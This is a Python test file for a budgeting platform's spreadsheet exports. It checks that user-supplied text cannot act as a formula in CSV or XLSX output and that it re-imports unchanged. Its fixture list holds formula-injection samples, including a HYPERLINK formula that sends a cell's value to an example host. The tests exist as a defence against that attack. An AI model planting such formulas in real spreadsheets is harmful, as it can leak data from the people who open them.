"""What people type never acts in a spreadsheet, in none of the tables that delivery gives away, and comes back as it was."""

import csv
import io
from collections.abc import Iterator
from datetime import date, timedelta
from decimal import Decimal, InvalidOperation
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy.orm import Session

from pbplatform.charter.roles import Actor
from pbplatform.consultation.models import Round
from pbplatform.delivery import bulk, export, operations, queries
from pbplatform.delivery.models import MilestoneKind
from pbplatform.delivery.operations import ContractPlan
from pbplatform.delivery.sheet import table
from pbplatform.foundation.sheets import write_csv, write_xlsx
from pbplatform.municipalities.models import Municipality
from pbplatform.voting.models import Project
from tests.support.delivery import a_delivery
from tests.support.marks import on_both_databases

NASTY = (
    '=HYPERLINK("http://example.org/?"&A1,"Total")',
    "+359 2 123456",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "'=1+1",
    "''@twice",
    "'Plus' Ltd",
    "=1\n=2, \"quoted\"; 'and' more",
)
_ACTING = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(autouse=True)
def _words(app: Flask) -> Iterator[None]:
    with app.test_request_context("/en/"):
        yield


@pytest.fixture
def found(session: Session, place: Municipality, officer: Actor, today: date) -> Round:
    """A round whose suppliers, titles and reasons all want to act."""
    made, lines = a_delivery(session, place, *[1_000_000] * len(NASTY))
    for line, text in zip(lines, NASTY, strict=True):
        project = session.get_one(Project, line.project_id)
        project.titles = {"ka": text, "en": text}
        plan = ContractPlan(text.replace("\n", " "), today - timedelta(days=9), 900_000)
        contract = operations.sign_contract(officer, session, line, plan)
        operations.pay(officer, session, contract, today - timedelta(days=8), 1_000)
        late = operations.add_milestone(
            officer, session, line, MilestoneKind.DESIGN, today - timedelta(days=3)
        )
        operations.explain_delay(officer, session, late, {"ka": text, "en": text})
        operations.abandon(officer, session, line, today, {"ka": text, "en": text})
    session.flush()
    return made


def cells_of(rows: list[list[Any]]) -> list[str]:
    """Every cell of the same rows as CSV and as XLSX; none of the latter is a formula."""
    text = write_csv(rows).decode("utf-8-sig")
    found = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([("all", rows)])))
    for row in book.worksheets[0].iter_rows():
        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
        found += [cell.value for cell in row if isinstance(cell.value, str)]
    return found


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("what", ["table", "projects", "contracts", "payments"])
def test_no_cell_acts(session: Session, place: Municipality, found: Round, what: str) -> None:
    standings = queries.board(session, place, found)
    rows = list(table(place, standings)) if what == "table" else list(export.rows(what, standings))
    cells = cells_of(rows)
    assert [cell for cell in cells if cell.startswith(_ACTING) and not is_number(cell)] == []
    # The texts are there, each with its apostrophe.
    assert sum("HYPERLINK" in cell for cell in cells) >= 2


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@on_both_databases
def test_every_text_comes_back_as_it_was(
    session: Session, place: Municipality, officer: Actor, found: Round, kind: str
) -> None:
    rows = list(table(place, queries.board(session, place, found)))
    content = write_csv(rows) if kind == "csv" else write_xlsx([("Delivery", rows)])
    brought = bulk.bring(officer, session, place, found, f"delivery.{kind}", content)
    assert (brought.changes, brought.faults) == ([], [])
    suppliers = {row["supplier"] for row in brought.content["rows"] if row["fact"] == "contract"}
    assert suppliers == {text.replace("\n", " ") for text in NASTY}
    reasons = {row["reasons"]["en"] for row in brought.content["rows"] if row["fact"] == "milestone"}
    assert reasons == set(NASTY)
